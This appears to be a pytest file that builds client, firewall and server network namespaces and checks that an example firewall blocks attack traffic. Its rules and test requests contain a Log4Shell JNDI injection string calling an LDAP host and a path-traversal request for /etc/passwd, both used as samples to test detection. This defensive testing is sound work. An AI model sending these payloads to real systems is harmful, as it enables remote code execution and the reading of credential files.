"""examples/firewall.py does its work between real network namespaces: a client, the firewall, a server."""
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path

import pytest
from netns import command, ip, join, namespaces

FIREWALL = Path(__file__).resolve().parents[1] / "examples/firewall.py"
CLIENT_IP, SERVER_IP, PORT = "10.30.0.2", "10.30.0.3", 8080
RULES = """
drop tcp any any -> any 8080 (msg:"dropped attempt"; flow:established,to_server; content:"${jndi:"; sid:1;)
reject tcp any any -> any 8080 (msg:"rejected attempt"; flow:established,to_server; content:"/etc/passwd"; sid:2;)
"""

# Answers one request a connection and writes down what reached it.
SERVER = """
import socket, sys, threading
def serve(connection):
    with connection:
        try:
            print(repr(connection.recv(65536)), flush=True)
            connection.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 20000\\r\\n\\r\\n" + b"x" * 20000)
        except ConnectionResetError:
            print("reset", flush=True)
door = socket.create_server(("", int(sys.argv[1])))
print("listening", flush=True)
while True:
    threading.Thread(target=serve, args=[door.accept()[0]], daemon=True).start()
"""

# Prints how the connection went: the number of bytes received, or the name of the error.
CLIENT = """
import socket, sys
received = 0
try:
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2) as connection:
        connection.sendall(sys.argv[3].encode())
        while data := connection.recv(65536):
            received += len(data)
    print(received)
except OSError as error:
    print(type(error).__name__)
"""


@contextmanager
def running(*words, ready):
    """A process that has printed the line `ready`; ended and waited for when the block ends."""
    process = subprocess.Popen([str(word) for word in words], stdout=subprocess.PIPE, text=True)
    try:
        assert process.stdout.readline().strip() == ready
        yield process
    finally:
        process.terminate()
        process.output, _ = process.communicate(timeout=20)


@pytest.fixture
def network(tmp_path):
    """client -- firewall -- server, all of one subnet: the firewall is a bump in the wire."""
    with namespaces("client", "firewall", "server") as (client, firewall, server):
        join(client, "wire", firewall, "left")
        join(server, "wire", firewall, "right")
        for namespace, address in ((client, CLIENT_IP), (server, SERVER_IP)):
            ip("addr", "add", f"{address}/24", "dev", "wire", inside=namespace)
        rules = tmp_path / "firewall.rules"
        rules.write_text(RULES)
        yield client, firewall, server, rules
    assert not any(name in ip("netns", "list").stdout for name in (client, firewall, server))


def ask(client, request):
    asked = subprocess.run(command(client, sys.executable, "-c", CLIENT, SERVER_IP, PORT, request),
                           stdout=subprocess.PIPE, text=True, check=True, timeout=30)
    return asked.stdout.strip()


def test_passes_the_good_and_cuts_the_bad(network):
    client, firewall, server, rules = network
    with running(*command(server, sys.executable, "-c", SERVER, PORT), ready="listening") as serving:
        with running(*command(firewall, sys.executable, FIREWALL, "left", "right", rules), ready="forwarding") as forwarding:
            assert int(ask(client, "GET / HTTP/1.1\r\nHost: a\r\n\r\n")) > 20000
            assert ask(client, "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.1/a}\r\n\r\n") == "TimeoutError"
            assert ask(client, "GET /../etc/passwd HTTP/1.1\r\n\r\n") == "ConnectionResetError"
            assert int(ask(client, "GET /again HTTP/1.1\r\n\r\n")) > 20000
        assert forwarding.returncode == 0
        assert "dropped" in forwarding.output and "lost: 0" in forwarding.output
        assert ask(client, "GET /closed HTTP/1.1\r\n\r\n") in ("TimeoutError", "OSError")     # no firewall, no way through
    assert "GET / HTTP" in serving.output and "GET /again" in serving.output
    assert "jndi" not in serving.output and "passwd" not in serving.output and "closed" not in serving.output
